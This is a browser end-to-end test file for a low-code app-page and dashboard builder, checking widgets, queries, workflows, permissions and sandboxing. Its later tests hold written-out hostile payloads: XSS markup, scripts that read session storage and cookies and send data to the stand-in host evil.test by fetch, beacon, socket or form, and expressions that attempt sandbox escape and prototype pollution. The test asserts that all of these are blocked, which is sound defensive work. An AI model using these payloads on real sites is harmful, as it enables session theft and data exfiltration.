import type { Request } from 'playwright-core';
import { expect, test } from 'vitest';
import { aDataQuery, aMember, aWidget, aWorkflow } from '#test/support/factories.ts';
import { graph } from '#test/support/graphs.ts';
import { expectAccessible, HOSTILE, type Stage } from './stage.ts';

type Row = Record<string, unknown>;

/** App pages and dashboards, as their viewers see them. */
export function appPageTests(stage: () => Stage): void {
  /** A page with widgets by their types and properties, in rows. */
  async function aPage(
    title: string,
    given: { rows: [suffix: string, type: string, properties: Row, events?: Row][][]; more?: Row },
  ) {
    const { cluster, tenant } = stage();
    const rows = await Promise.all(
      given.rows.map((row) =>
        Promise.all(
          row.map(async ([suffix, type, properties, events = {}]) => {
            const { id } = await aWidget(cluster, { tenant, type, config: { properties, events } as never });
            return `widget_${id}_${suffix}`;
          }),
        ),
      ),
    );
    const children = rows.map((keys, at) => ({
      ...{ id: `row${at}`, type: 'row' },
      children: keys.map((widgetKey) => ({ id: widgetKey, type: 'widget', widgetKey })),
    }));
    const client = cluster.as(tenant.creator).in(tenant);
    const { body } = await client.post('T/app-pages', {
      appPageTitle: title,
      appPageConfig: {
        layoutVersion: 2,
        layout: { id: 'root', type: 'column', children },
        widgets: rows.flat(),
        ...given.more,
      },
    });
    return { id: body.appPage.id as string, keys: rows.flat(), client };
  }

  test('a viewer without any other right opens a page: its widgets show data, and what fails, is hostile or is old is told at its place', async () => {
    const { cluster, tenant, open, faults } = stage();
    const orders = await aDataQuery(cluster, {
      tenant,
      title: 'Orders',
      query: {
        query: `select n as id, case when n % 3 = 0 then 'paid' else 'open' end as state, n * 2.5 as total, '${HOSTILE.replaceAll("'", "''")}' as note, '2026-03-02T10:00:00Z' as at, 'javascript:alert(1)' as link from generate_series(1, {{inputs.count}}::int) n`,
        inputDefinitions: [{ key: 'count', type: 'number' }],
      },
    });
    const broken = await aDataQuery(cluster, { tenant, query: 'select 1 / 0' });
    const { id, keys } = await aPage('Order desk', {
      rows: [
        [
          [
            'head',
            'text',
            {
              content: '# Orders of {{viewer.email}}\n\n<img src=x onerror="throw 1"> [a link](javascript:alert(1))',
              format: 'markdown',
            },
          ],
        ],
        [
          [
            'open',
            'stat',
            { label: 'Open orders', value: '{{queries.orders.data | where: "state", "open" | count}}', unit: 'orders' },
          ],
          [
            'sum',
            'stat',
            { label: 'Total', value: '{{queries.orders.data | sum: "total"}}', precision: 2, previousValue: 100 },
          ],
          ['by', 'stat', { label: 'By code', value: '{{queries.orders.data.filter((row) => row.id > 40).length}}' }],
          [
            'share',
            'progress',
            { label: 'Paid', value: '{{queries.orders.data | where: "state", "paid" | count}}', max: 45 },
          ],
        ],
        [
          [
            'orders',
            'table',
            {
              items: '{{queries.orders.data}}',
              pageSize: 10,
              isSearchable: true,
              isSelectable: true,
              columns: [
                { key: 'id', label: 'Number', type: 'number' },
                { key: 'state', label: 'State', type: 'badge' },
                { key: 'total', label: 'Total', type: 'number' },
                { key: 'at', label: 'Ordered', type: 'date' },
                { key: 'note', label: 'Note' },
                { key: 'link', label: 'Link', type: 'link' },
              ],
            },
          ],
        ],
        [
          ['chosen', 'key-value', { values: '{{widgets.orders.selectedRow}}' }],
          ['json', 'json-viewer', { value: '{{queries.orders.data | limit: 2}}', depth: 3 }],
          ['list', 'list', { items: '{{queries.orders.data | limit: 3}}', primaryKey: 'state', secondaryKey: 'note' }],
        ],
        [
          ['alert', 'alert', { title: 'Note', message: 'Closes at six', variant: 'warning', isDismissible: true }],
          ['badge', 'badge', { label: HOSTILE, variant: 'success' }],
          ['code', 'code-block', { code: 'select 1;\n-- <script>', showLineNumbers: true }],
        ],
        [['line', 'divider', { label: 'Below' }]],
        [
          ['failed', 'table', { items: '{{queries.broken.data}}' }],
          ['typo', 'text', { content: 'Day {{variables.dya}}, {{(() => { for (;;); })()}}' }],
          ['other', 'gantt', { rows: [1] }],
        ],
      ],
      more: {
        dataSources: [
          { alias: 'orders', type: 'query', queryID: orders.id, inputValues: { count: 45 }, triggerMode: 'auto' },
          { alias: 'broken', type: 'query', queryID: broken.id },
        ],
      },
    });
    const viewer = await aMember(cluster, { tenant, can: ['appPage.read', 'appPage.list'] });
    const page = await open(viewer);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}`));
    await page.getByRole('link', { name: 'Pages' }).click();
    // A second try has made a second page. The menu may have listed it already.
    await page.getByRole('main').locator(`a[href$="${id}"]`, { hasText: 'Order desk' }).click();
    const part = (name: string) =>
      page.locator('section.page-widget').nth(keys.findIndex((key) => key.endsWith(`_${name}`)));
    await part('orders').getByText('Page 1 of 5, 45 rows').waitFor();
    // All data by one request.
    expect(asked.filter((path) => path.endsWith('/data'))).toEqual([
      `POST /api/v1/tenants/${tenant.id}/app-pages/${id}/data`,
    ]);
    expect(asked.filter((path) => /\/api\/.*\/(?:widgets|queries)/.test(path))).toEqual([]);
    await part('open').getByText('30').waitFor();
    await part('sum').getByText('2,587.50').waitFor();
    await part('by').getByText('5', { exact: true }).waitFor();
    expect(await part('share').getByRole('progressbar').getAttribute('aria-valuenow')).toBe('33');
    await part('head').getByText(`Orders of ${viewer.email}`).waitFor();

    // Search, order, pages and selection.
    const table = part('orders');
    await table.getByRole('button', { name: 'Next' }).click();
    await table.getByText('Page 2 of 5').waitFor();
    await table.getByRole('button', { name: 'Number' }).click();
    await table.getByRole('button', { name: 'Number' }).click();
    await table.getByRole('button', { name: 'Back' }).click();
    await table.getByRole('checkbox', { name: 'Choose 45' }).check();
    await part('chosen').getByText('112.5').waitFor();
    await table.getByRole('textbox', { name: 'Search A widget' }).fill('paid');
    await table.getByText('Page 1 of 2, 15 rows').waitFor();

    await part('failed')
      .getByText(/division by zero/)
      .waitFor();
    await part('typo').getByText('there is no variable “dya” on this page').waitFor();
    await part('typo').getByText('took longer than 100 ms').waitFor();
    await part('other').getByText('"rows"').waitFor();
    expect(await page.locator('img[src="x"], a[href^="javascript"]').count()).toBe(0);
    await expectAccessible(page, { name: 'app-page', shows: 'Closes at six' });
    await part('alert').getByRole('button', { name: 'Close' }).click();
    await page.getByText('Closes at six').waitFor({ state: 'detached' });
    expect(faults).toEqual([]);
    await page.close();
  });

  test('what is entered is read by queries, variables and actions; a workflow is started, asks in the page, and survives a reload', async () => {
    const { cluster, tenant, page, go, path, faults } = stage();
    const counted = await aDataQuery(cluster, {
      tenant,
      query: {
        query: 'select {{inputs.who}}::text as who, {{inputs.count}}::int * 2 as twice',
        inputDefinitions: [{ key: 'who' }, { key: 'count', type: 'number' }],
      },
    });
    const workflow = await aWorkflow(cluster, {
      ...{ tenant, title: 'Approval' },
      ...graph(
        {
          start: { type: 'start' },
          ask: {
            ...{ type: 'dataCollection', title: 'Why?' },
            formSchema: { type: 'object', required: ['why'], properties: { why: { type: 'string', title: 'Reason' } } },
          },
          end: { type: 'end', outputParameters: [{ name: 'who', sourceVariable: '{{ctx.input.who}}' }] },
        },
        ['start>ask', 'ask:output>end'],
      ),
    });
    const options = ['open', { value: 'paid', label: 'Paid already' }];
    const { id, keys } = await aPage('Approvals', {
      rows: [
        [
          ['who', 'text-input', { label: 'Who', defaultValue: 'Ada', isRequired: true }],
          [
            'search',
            'search-input',
            { label: 'Find', debounceMs: 0 },
            { onSearch: [{ type: 'SET_VARIABLE', key: 'found', value: '{{event.search}}' }] },
          ],
          ['state', 'select', { label: 'State', options }],
          ['states', 'multi-select', { label: 'States', options, defaultValue: ['open'] }],
        ],
        [
          ['day', 'date-picker', { label: 'Day', defaultValue: '2026-03-02' }],
          ['period', 'date-range-picker', { label: 'Period', defaultValue: '2026-03-02', defaultEnd: '2026-03-05' }],
          ['count', 'slider', { label: 'Count', min: 1, max: 9, defaultValue: '3' }],
          ['file', 'file-upload', { label: 'Receipt' }],
        ],
        [
          ['sure', 'checkbox', { label: 'Sure' }],
          ['fast', 'switch', { label: 'Fast', isOn: true }],
          [
            'way',
            'radio-group',
            { label: 'Way', options: ['post', 'courier'], defaultValue: 'post', direction: 'row' },
          ],
          [
            'said',
            'text',
            {
              content:
                '{{queries.counted.data | first | json}} {{widgets.state.value}} {{variables.found}} {{widgets.period.value.end}} {{widgets.sure.value | yesno}}',
            },
          ],
        ],
        [
          [
            'tabs',
            'tabs',
            {
              tabs: [
                { key: 'a', label: 'First' },
                { key: 'b', label: 'Second' },
              ],
            },
          ],
          [
            'add',
            'button',
            { label: 'Add one', confirmation: 'Really add one?' },
            {
              onClick: [
                { type: 'SET_VARIABLE', key: 'total', value: '{{variables.total | plus: 1}}' },
                { type: 'EXECUTE_QUERY', alias: 'byHand', inputValues: { count: '{{variables.total}}' } },
                { type: 'SHOW_TOAST', message: 'Twice is {{event.result[0].twice}}', variant: 'success' },
              ],
            },
          ],
          [
            'bad',
            'button',
            { label: 'Fail' },
            {
              onClick: [
                { type: 'EXECUTE_QUERY', alias: 'nothing' },
                { type: 'SHOW_TOAST', message: 'never' },
              ],
            },
          ],
        ],
        [
          [
            'form',
            'form',
            {
              submitLabel: 'Ask for it',
              fields: [
                { key: 'name', label: 'Name', isRequired: true },
                { key: 'amount', label: 'Amount', type: 'number' },
              ],
            },
            {
              onSubmit: [{ type: 'TRIGGER_WORKFLOW', alias: 'approve', inputValues: { who: '{{event.values.name}}' } }],
            },
          ],
          ['progress', 'text', { content: 'Run: {{workflows.approve.status}} {{workflows.approve.output.who}}' }],
        ],
      ],
      more: {
        variables: [
          { key: 'total', type: 'number', defaultValue: 1 },
          { key: 'found', type: 'string' },
        ],
        dataSources: [
          {
            alias: 'counted',
            type: 'query',
            queryID: counted.id,
            triggerMode: 'reactive',
            inputValues: { who: '{{widgets.who.value}}', count: '{{widgets.count.value}}' },
          },
          {
            alias: 'byHand',
            type: 'query',
            queryID: counted.id,
            triggerMode: 'manual',
            inputValues: { who: 'x', count: '{{event.count}}' },
          },
          { alias: 'approve', type: 'workflow', workflowID: workflow.id, inputValues: { who: '{{event.who}}' } },
        ],
      },
    });
    await go(path(`/pages/${id}`));
    const part = (name: string) =>
      page.locator('section.page-widget').nth(keys.findIndex((key) => key.endsWith(`_${name}`)));
    await part('said').getByText('"who": "Ada", "twice": 6').waitFor();
    await page.getByRole('textbox', { name: 'Who' }).fill('Grace');
    await part('said').getByText('"who": "Grace"').waitFor();
    await page
      .getByRole('textbox', { name: 'State', exact: true })
      .or(page.getByRole('combobox', { name: 'State', exact: true }))
      .first()
      .click();
    await page.getByRole('option', { name: 'Paid already' }).click();
    await page.getByRole('searchbox', { name: 'Find' }).fill('lamp');
    await page.getByRole('checkbox', { name: 'Sure' }).check();
    await page.getByLabel('Period, to').fill('2026-03-09');
    await part('said')
      .getByText(/paid lamp 2026-03-09 yes/)
      .waitFor();
    await page.getByRole('slider', { name: 'Count' }).press('End');
    await part('said').getByText('"twice": 18').waitFor();
    await part('file')
      .locator('input[type=file]')
      .setInputFiles({ name: 'receipt.txt', mimeType: 'text/plain', buffer: Buffer.from('paid') });
    await part('file').getByText('receipt.txt').waitFor();
    await page.getByRole('tab', { name: 'Second' }).click();

    // A question comes first; no is no.
    const dialog = page.getByRole('dialog');
    await page.getByRole('button', { name: 'Add one' }).click();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('button', { name: 'Add one' }).click();
    await dialog.getByRole('button', { name: 'Yes, go on' }).click();
    await page.getByText('Twice is 4').waitFor();
    await page.getByRole('button', { name: 'Fail' }).click();
    await page.getByText('This page has no query “nothing”').waitFor();
    expect(await page.getByText('never').count()).toBe(0);
    await expectAccessible(page, { name: 'app-page-inputs', shows: 'Approvals' });

    // A workflow: started by the form, its question answered after a reload.
    await part('form').getByRole('button', { name: 'Ask for it' }).click();
    await part('form').getByText('is required').waitFor();
    await part('form').getByRole('textbox', { name: 'Name' }).fill('Lin');
    await part('form').getByRole('button', { name: 'Ask for it' }).click();
    await part('form').getByRole('textbox', { name: 'Reason' }).waitFor();
    await part('progress').getByText('Run: WAITING').waitFor();
    await page.reload();
    await part('form').getByRole('textbox', { name: 'Reason' }).fill('Because');
    await expectAccessible(page, { name: 'app-page-run', shows: 'Approvals', schemes: ['light'] });
    await part('form').getByRole('button', { name: 'Send' }).click();
    await part('progress').getByText('Run: COMPLETED Lin').waitFor();
    const { rows } = await cluster.pool.query(
      "select caller ->> 'origin' as origin from workflow_instance where workflow_id = $1",
      [workflow.id],
    );
    expect(rows).toEqual([{ origin: 'appPage' }]);
    await part('form').getByRole('button', { name: 'Close' }).click();
    expect(faults).toEqual([]);
  });

  test('a dashboard is drawn by its grid, below one another on a telephone, and shows only widgets that its viewer may execute', async () => {
    const { cluster, tenant, page, go, path, open } = stage();
    const query = await aDataQuery(cluster, { tenant, query: 'select 7 as n' });
    const bound = { dataQueries: [{ dataQueryID: query.id }] };
    const { id: table } = await aWidget(cluster, { tenant, type: 'table', config: bound });
    const { id: stat } = await aWidget(cluster, {
      tenant,
      type: 'stat',
      config: { properties: { label: 'Fixed', value: '12' } },
    });
    const figures = await aDataQuery(cluster, {
      tenant,
      query: "select * from (values ('north', 3), ('south', 5)) v (region, total)",
    });
    const datasetFields = { xAxis: 'region', yAxis: 'total', label: 'region', value: 'total' };
    const charts = await Promise.all(
      ['bar', 'line', 'pie', 'polarArea', 'radar'].map(async (type) => {
        const config = { dataQueries: [{ dataQueryID: figures.id, title: 'Total', datasetFields }] };
        return `widget_${(await aWidget(cluster, { tenant, type, config })).id}_${type}`;
      }),
    );
    const widgets = [`widget_${table}_1`, `widget_${stat}_2`, ...charts];
    const [one, two] = widgets;
    const dashboardConfig = {
      widgets,
      layouts: {
        md: [
          { i: one, x: 5, y: 0, w: 5, h: 4 },
          { i: two, x: 0, y: 0, w: 5, h: 2 },
        ],
      },
    };
    const client = cluster.as(tenant.creator).in(tenant);
    const { dashboardID } = (await client.post('T/dashboards', { dashboardTitle: 'Board', dashboardConfig })).body
      .dashboard;
    await go(path('/pages?kind=dashboards'));
    await expectAccessible(page, { name: 'pages', shows: 'Board' });
    await go(path(`/pages/dashboards/${dashboardID}`));
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.getByRole('cell', { name: '7' }).waitFor();
    const drawn = page.locator('.page-chart > svg');
    await drawn.nth(4).waitFor();
    expect(
      await Promise.all(
        [
          drawn.nth(0).locator('rect'),
          drawn.nth(1).locator('circle'),
          drawn.nth(2).locator('path'),
          drawn.nth(4).locator('polygon'),
        ].map((marks) => marks.count()),
      ),
    ).toEqual([2, 2, 2, 1]);
    await page.getByText('Figures').first().click();
    await page.getByRole('row', { name: 'south 5' }).waitFor();
    const left = async () =>
      Promise.all(
        ['Fixed', '7'].map(async (text) => (await page.getByText(text, { exact: true }).first().boundingBox())?.x ?? 0),
      );
    const [fixed = 0, seven = 0] = await left();
    expect(seven - fixed).toBeGreaterThan(300);
    await expectAccessible(page, { name: 'dashboard', shows: 'Fixed' });
    const viewer = await aMember(cluster, {
      tenant,
      can: ['dashboard.read'],
      rules: [{ object: `widget:${stat}`, action: 'execute' }],
    });
    const theirs = await open(viewer);
    await go(path(`/pages/dashboards/${dashboardID}`), theirs);
    await expect.poll(() => theirs.getByText('This widget is gone, or you may not see it').count()).toBe(6);
    await theirs.getByText('Fixed').waitFor();
    await theirs.close();
  });

  test('markup and code of a page reach neither the console, nor its storage, nor any server', async () => {
    const { page, go, path, faults } = stage();
    // A request that a policy refuses begins and fails at once; others would ask for the address of a server that there is not.
    const begun = new Set<Request>();
    const ends: [url: string, why: string][] = [];
    const onRequest = (request: Request) => {
      if (request.url().includes('evil.test')) begun.add(request);
    };
    const onEnd = (request: Request) => {
      if (begun.delete(request)) ends.push([request.url(), request.failure()?.errorText ?? 'answered']);
    };
    page.on('request', onRequest).on('requestfailed', onEnd).on('requestfinished', onEnd);
    const row = inMarkup.map(([name, code]) => `[${JSON.stringify(name)}, async () => { ${code} }]`).join(',\n');
    const content = `<div id="here">Shown</div>${PASSIVE}<script>
      (async () => {
        const got = [];
        for (const [name, attack] of [${row}]) {
          try {
            const value = await Promise.race([attack(), new Promise((end) => setTimeout(end, 300))]);
            if (value !== undefined && value !== null) got.push(name + ': ' + value);
          } catch {}
        }
        parent.postMessage({ ended: true, got }, '*');
        setTimeout(() => { location.href = 'https://evil.test/leave?' + got.length; }, 200);
      })();
    </script>`;
    const { id, keys } = await aPage('Hostile', {
      rows: [
        [
          [
            'markup',
            'html',
            { content, height: 120 },
            { onMessage: [{ type: 'SET_VARIABLE', key: 'got', value: '{{event.data}}' }] },
          ],
        ],
        [['report', 'text', { content: 'Ended {{variables.got.ended}}, got {{variables.got.got | json}}' }]],
        [['site', 'iframe', { src: 'javascript:alert(1)' }]],
        [['image', 'image', { src: 'https://evil.test/pixel.png', alt: 'Pixel' }]],
        ...inCode.map(([code], at): [string, string, Row][] => [
          [`code${at}`, 'stat', { label: `Case ${at}`, value: `{{${code}}}` }],
        ]),
        [['good', 'text', { content: 'Still {{[1, 2].map((n) => n * 2).join("+")}}' }]],
      ],
      more: { variables: [{ key: 'got', type: 'object' }] },
    });
    await go(path(`/pages/${id}`));
    const part = (name: string) =>
      page.locator('section.page-widget').nth(keys.findIndex((key) => key.endsWith(`_${name}`)));
    await part('report').getByText('Ended true').waitFor();
    expect(await part('report').textContent()).toBe('Ended true, got []');
    await page.frameLocator('iframe[title="A widget"]').first().locator('body').waitFor();
    await part('good').getByText('Still 2+4').waitFor();
    await part('site').getByText('Only addresses with http and https are shown').waitFor();
    await part('image').getByText('Only files that were uploaded here are shown').waitFor();
    for (const [at, [, shown]] of inCode.entries()) await part(`code${at}`).getByText(shown).first().waitFor();
    await expect.poll(() => begun.size).toBe(0);
    expect(ends.length).toBeGreaterThan(5);
    expect(ends.filter(([, why]) => !/csp|BLOCKED_BY_RESPONSE|ABORTED/i.test(why))).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(path(`/pages/${id}`));
    page.off('request', onRequest).off('requestfailed', onEnd).off('requestfinished', onEnd);
    // Its frames go on trying as long as the page is open.
    await page.goto('about:blank');
    // The browser writes an error for all that the policies refuse, and for nothing else.
    const others = faults
      .splice(0)
      .filter((fault) => !/policy|sandbox|refused|blocked|Failed to (?:construct|load|execute)|-src/i.test(fault));
    expect(others).toEqual([]);
  });

  test('code that leaves work behind it holds neither other code nor the next', async () => {
    const { page, go, path } = stage();
    const { id, keys } = await aPage('Work left behind', {
      rows: [
        [
          ['timer', 'stat', { label: 'Timer', value: '{{(setTimeout(() => { for (;;); }), variables.n + 10)}}' }],
          [
            'promise',
            'stat',
            { label: 'Promise', value: '{{(Promise.resolve().then(() => { for (;;); }), variables.n + 20)}}' },
          ],
          ['good', 'stat', { label: 'Good', value: '{{variables.n + 30}}' }],
        ],
        [['more', 'button', { label: 'More' }, { onClick: [{ type: 'SET_VARIABLE', key: 'n', value: 2 }] }]],
      ],
      more: { variables: [{ key: 'n', type: 'number', defaultValue: 1 }] },
    });
    await go(path(`/pages/${id}`));
    const shown = (name: string, value: string) =>
      page
        .locator('section.page-widget')
        .nth(keys.findIndex((key) => key.endsWith(`_${name}`)))
        .getByText(value, { exact: true })
        .waitFor();
    for (const n of [1, 2]) {
      await shown('timer', `1${n}`);
      await shown('promise', `2${n}`);
      await shown('good', `3${n}`);
      await page.getByRole('button', { name: 'More' }).click();
    }
  });
}

/** Elements that load something without a script. */
const PASSIVE = `
  <img src="https://evil.test/image.png"><link rel="stylesheet" href="https://evil.test/sheet.css">
  <style>@import url("https://evil.test/import.css"); #here { background: url("https://evil.test/background.png") }
  @font-face { font-family: f; src: url("https://evil.test/font.woff") } #here { font-family: f }</style>
  <script src="https://evil.test/script.js"></script><iframe src="https://evil.test/frame.html"></iframe>
  <object data="https://evil.test/object.swf"></object><embed src="https://evil.test/embed.swf">
  <video src="https://evil.test/video.mp4"></video><svg><image href="https://evil.test/svg.png" /></svg>
  <base href="https://evil.test/"><meta http-equiv="refresh" content="60; url=https://evil.test/refresh">
  <form id="form" action="https://evil.test/form" method="post"><input name="a" value="1"></form>`;

/** Scripts of a widget with markup, each of which gives what it has got. */
const inMarkup: readonly (readonly [name: string, code: string])[] = [
  ['the document around', 'return parent.document.title'],
  ['the storage around', 'return parent.sessionStorage.getItem("gantry.session")'],
  ['an own storage', 'return sessionStorage.length'],
  ['a local storage', 'return localStorage.length'],
  ['cookies', 'return document.cookie'],
  ['a database of the browser', 'indexedDB.open("a"); return 1'],
  ['caches', 'return await caches.keys()'],
  ['the API', 'return (await fetch("/api/v1/auth")).status'],
  ['the API by its whole address', `return (await fetch(parent.location.origin + '/health')).status`],
  ['another server', 'return (await fetch("https://evil.test/fetch", { mode: "no-cors" })).type'],
  [
    'an old request',
    'const r = new XMLHttpRequest(); r.open("GET", "https://evil.test/xhr", false); r.send(); return r.status',
  ],
  [
    'a socket',
    'return await new Promise((end, fail) => { const s = new WebSocket("wss://evil.test/"); s.onopen = () => end(1); s.onerror = fail; })',
  ],
  [
    'events of a server',
    'return await new Promise((end, fail) => { const s = new EventSource("https://evil.test/"); s.onopen = () => end(1); s.onerror = fail; })',
  ],
  ['a peer connection', 'return typeof new RTCPeerConnection()'],
  ['a beacon', 'navigator.sendBeacon("https://evil.test/beacon", "a")'],
  ['the console elsewhere', 'top.location.href = "https://evil.test/top"; return 1'],
  ['a window', 'return open("https://evil.test/window")'],
  ['a form', 'document.getElementById("form").submit()'],
  [
    'a frame of the console',
    'const f = document.createElement("iframe"); f.src = "/console/"; document.body.append(f); await new Promise((end) => f.onload = end); return f.contentDocument?.title',
  ],
  [
    'a worker',
    'return await new Promise((end, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => end(1); w.onerror = fail; })',
  ],
  ['code from text', 'return eval("1")'],
  ['a module of another server', 'return Object.keys(await import("https://evil.test/module.js"))'],
  [
    'another widget',
    'const other = [0, 1, 2].map((n) => parent.frames[n]).find((one) => one && one !== self); return typeof other.document',
  ],
  [
    'a port of the page',
    'parent.postMessage({ ready: true }, "*"); parent.postMessage(null, "*", [new MessageChannel().port1])',
  ],
  ['prototypes of the page', `parent.postMessage(JSON.parse('{"__proto__": {"polluted": 1}, "constructor": 1}'), '*')`],
  [
    'a download',
    'const a = document.createElement("a"); a.href = "data:text/plain,a"; a.download = "a.txt"; a.click()',
  ],
];

/** Code in expressions, and what is shown in its place. */
const inCode: readonly (readonly [code: string, shown: string | RegExp])[] = [
  ['typeof fetch', 'undefined'],
  ['typeof XMLHttpRequest', 'undefined'],
  ['typeof WebSocket', 'undefined'],
  ['typeof importScripts', 'undefined'],
  ['typeof postMessage', 'undefined'],
  ['typeof document + typeof sessionStorage + typeof parent', 'undefinedundefinedundefined'],
  ['typeof indexedDB + typeof caches + typeof navigator', 'undefinedundefinedundefined'],
  ['typeof [].map.constructor("return this")().fetch', 'undefined'],
  ['(() => typeof this)()', 'undefined'],
  ['(() => { Array.prototype.map = () => "leak"; return 1; })()', /Cannot assign to read only/],
  ['(() => { Object.prototype.leak = 1; return 1; })()', /not extensible/],
  ['(() => { const a = {}; a.__proto__.leak = 1; return 1; })()', /not extensible/],
  ['(() => { globalThis.Function = () => () => "leak"; return 1; })()', /Cannot assign to read only/],
  [
    '(() => { Object.getPrototypeOf([].values()).next = () => ({ done: true }); return 1; })()',
    /read only|not extensible/,
  ],
  [
    '(() => { Object.defineProperty(MessageEvent.prototype, "data", { get: () => [] }); return 1; })()',
    /Cannot redefine/,
  ],
  ['(() => { globalThis.leak = 1; return 1; })()', /not extensible/],
  ['String(import("https://evil.test/code.js").catch(() => 0))', '[object Promise]'],
  ['(() => { for (;;) {} })()', 'took longer than 100 ms'],
  ['(() => { const all = []; for (;;) all.push(new Array(1000).fill(0)); })()', /took longer than 100 ms|memory/],
  ['"x".repeat(3000000)', 'gives more than 2 MB'],
  ['(() => { throw { toString() { throw 1; } }; })()', 'cannot be computed'],
  ['variables.got.constructor.constructor("return typeof fetch")()', /undefined|null/],
  ['queries.other.data', 'there is no query “other” on this page'],
  ['variables.got["__proto__"]', 'may not read'],
];
